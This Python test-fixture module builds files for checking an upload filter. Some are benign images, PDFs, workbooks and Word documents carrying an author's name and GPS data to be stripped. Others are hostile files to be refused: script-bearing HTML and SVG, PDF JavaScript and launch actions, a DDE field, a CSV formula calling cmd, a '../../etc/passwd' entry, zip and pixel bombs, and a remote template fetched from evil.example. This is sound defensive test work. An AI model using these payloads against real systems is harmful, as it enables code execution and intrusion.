"""Papers for tests: good ones that tell too much of their makers, and hostile ones."""

import io
import struct
import zipfile
import zlib

from openpyxl import Workbook
from openpyxl.comments import Comment
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

SECRET = "Amal of room 12"  # What no kept paper may hold.
SECRET_AT = (33.0, 18.0, 47.52)
OFFICE = "application/vnd.openxmlformats-officedocument"


def image(form="JPEG", size=(60, 40), mode="RGB", **given):
    """A picture with camera, place and comment."""
    held = Image.new(mode, size, 120)
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = SECRET, 6
    exif.get_ifd(0x8825).update({1: "N", 2: SECRET_AT, 3: "E", 4: SECRET_AT})
    made = io.BytesIO()
    held.save(made, form, exif=exif, **given)
    return made.getvalue()


def gif():
    made = io.BytesIO()
    Image.new("RGB", (4, 4)).save(made, "GIF")
    return made.getvalue()


def moving():
    made = io.BytesIO()
    frames = [Image.new("RGB", (4, 4), one) for one in ("red", "blue")]
    frames[0].save(made, "WEBP", save_all=True, append_images=frames[1:])
    return made.getvalue()


def huge_png(width=50_000, height=50_000):
    """A picture that says to be huge and holds nothing."""

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def pdf(*, script=False, inside=False, comment=False, launch=False, xfa=False, password="", photo=False):
    """A paper of one page, that names its author."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    writer.add_metadata({"/Author": SECRET, "/Title": SECRET})
    writer.xmp_metadata = (
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        + SECRET.encode()
        + b"</x:xmpmeta>"
    )
    if script:
        writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS=f"app.alert('{SECRET}')")
        page[NameObject("/AA")] = _action("/JavaScript", JS=f"app.alert('{SECRET}')")
    if inside:
        writer.add_attachment("secret.txt", SECRET.encode())
    if launch:
        page[NameObject("/Annots")] = ArrayObject([_annotation("/Link", A=_action("/Launch", F=SECRET))])
    if comment:
        page[NameObject("/Annots")] = ArrayObject([_annotation("/Text", T=TextStringObject(SECRET))])
    if xfa:
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/XFA"): TextStringObject("<xdp/>"), NameObject("/Fields"): ArrayObject()}
        )
    if photo:
        made = io.BytesIO()
        Image.open(io.BytesIO(image())).save(made, "PDF")
        writer.append(PdfReader(made))
        for held in writer._objects:
            if isinstance(held, DictionaryObject) and held.get("/Subtype") == "/Image":
                held._data = image()
    if password:
        writer.encrypt(password)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def _action(kind, **given):
    held = {NameObject("/S"): NameObject(kind)}
    return DictionaryObject(held | {NameObject(f"/{name}"): TextStringObject(value) for name, value in given.items()})


def _annotation(kind, **given):
    rect = ArrayObject()
    held = {NameObject("/Subtype"): NameObject(kind), NameObject("/Rect"): rect}
    return DictionaryObject(held | {NameObject(f"/{name}"): value for name, value in given.items()})


def sheet():
    """A workbook that names its author, with a comment of hers."""
    book = Workbook()
    book.properties.creator = book.properties.lastModifiedBy = SECRET
    book.active["A1"] = "A figure"
    book.active["A1"].comment = Comment("Is this right?", SECRET)
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


def text(*, main=f"{OFFICE}.wordprocessingml.document.main+xml", body="", **more):
    """A text of an office program, with an author, a tracked change of hers, and a photo."""
    word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    parts = {
        "[Content_Types].xml": f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
        "_rels/.rels": "<Relationships/>",
        "docProps/core.xml": f"<cp:coreProperties><dc:creator>{SECRET}</dc:creator></cp:coreProperties>",
        "docProps/app.xml": f"<Properties><Company>{SECRET}</Company></Properties>",
        "word/document.xml": f'<w:document {word}><w:ins w:author="{SECRET}"/><w:t>Agreed.</w:t>{body}</w:document>',
        "word/comments.xml": f'<w:comments {word}><w:comment w:author="{SECRET}" w:initials="AB"/></w:comments>',
        "word/media/image1.jpg": image(),
        **more,
    }
    return zipped(parts)


def zipped(parts):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as to:
        for name, data in parts.items():
            to.writestr(name, data)
    return made.getvalue()


def way_out(kind, target="https://evil.example/x.dotm"):
    return (
        f'<Relationships><Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )


HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HOSTILE = {  # What is sent, under which name, and why it is refused.
    "nothing": (b"", "a.pdf", "empty"),
    "nine million octets": (b"a" * 9_000_000, "a.txt", "large"),
    "a page as PDF": (HTML, "a.pdf", "markup"),
    "a page as text": (b"Words.\n" + HTML, "a.txt", "markup"),
    "a drawing that runs": (SVG, "a.svg", "markup"),
    "the same as PNG": (SVG, "a.png", "markup"),
    "the same behind a mark": (b"\xef\xbb\xbf \n" + SVG, "a.png", "markup"),
    "the same in wide letters": (SVG.decode().encode("utf-16"), "a.txt", "markup"),
    "a page before a PDF": (HTML + pdf(), "a.pdf", "kind"),
    "a program": (b"MZ\x90\0\3\0\0\0", "a.pdf", "kind"),
    "an old text": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.doc", "old"),
    "a picture of another kind": (gif(), "a.png", "kind"),
    "a huge picture": (huge_png(), "a.png", "pixels"),
    "a long picture": (huge_png(30_000, 10), "a.png", "pixels"),
    "a broken picture": (image("PNG")[:60], "a.png", "broken"),
    "a moving picture": (moving(), "a.webp", "moving"),
    "half a PDF": (pdf()[:80], "a.pdf", "broken"),
    "a sealed PDF": (pdf(password="x"), "a.pdf", "sealed"),
    "a form that fills itself": (pdf(xfa=True), "a.pdf", "form"),
    "a text with macros": (text(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "a.docx", "macros"),
    "macros under a good name": (text(**{"word/vbaProject.bin": b"x"}), "a.docx", "macros"),
    "a template from elsewhere": (
        text(**{"word/_rels/settings.xml.rels": way_out("attachedTemplate")}),
        "a.docx",
        "external",
    ),
    "a picture from elsewhere": (text(**{"word/_rels/document.xml.rels": way_out("image")}), "a.docx", "external"),
    "a field that runs": (text(body="<w:instrText>DDEAUTO c:\\\\x</w:instrText>"), "a.docx", "external"),
    "an object inside": (text(**{"word/embeddings/oleObject1.bin": b"x"}), "a.docx", "embedded"),
    "an entity": (text(**{"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'}), "a.docx", "dtd"),
    "a name that leads out": (text(**{"../../etc/passwd": "x"}), "a.docx", "name"),
    "a zip in a zip": (text(**{"word/media/image2.gif": zipped({"a": "b"})}), "a.docx", "nested"),
    "a bomb": (text(**{"word/styles.xml": "<x/>" + " " * 20_000_000}), "a.docx", "ratio"),
    "a thousand parts": (text(**{f"word/x{number}.xml": "<x/>" for number in range(300)}), "a.docx", "parts"),
    "a zip": (zipped({"a.txt": "words"}), "a.docx", "kind"),
    "a table that computes": (b"name,value\nx,=cmd|' /C calc'!A0\n", "a.csv", "formula"),
    "marks that nobody sees": (b"Words\x00\x1b[2J", "a.txt", "kind"),
}
TELLING = {  # What is kept, and of which kind, without what it tells of its maker.
    "a photo": (image(), "application/pdf", "image/jpeg"),
    "a drawing": (image("PNG"), "", "image/png"),
    "a web picture": (image("WEBP"), "", "image/webp"),
    "a photo and a page": (image() + HTML.replace(b"alert", SECRET.encode()), "", "image/jpeg"),
    "a PDF": (pdf(), "", "application/pdf"),
    "a PDF with scripts": (pdf(script=True), "", "application/pdf"),
    "a PDF with a file inside": (pdf(inside=True), "", "application/pdf"),
    "a PDF that opens programs": (pdf(launch=True), "", "application/pdf"),
    "a PDF with a comment": (pdf(comment=True), "", "application/pdf"),
    "a PDF with a photo": (pdf(photo=True), "", "application/pdf"),
    "a PDF and a page": (pdf() + HTML.replace(b"alert", SECRET.encode()), "", "application/pdf"),
    "a workbook": (sheet(), "", f"{OFFICE}.spreadsheetml.sheet"),
    "a text": (text(), "", f"{OFFICE}.wordprocessingml.document"),
    "a table": (b"name,value\nx,-5\n", "", "text/csv"),
    "words": ("تقرير".encode(), "", "text/plain"),
}
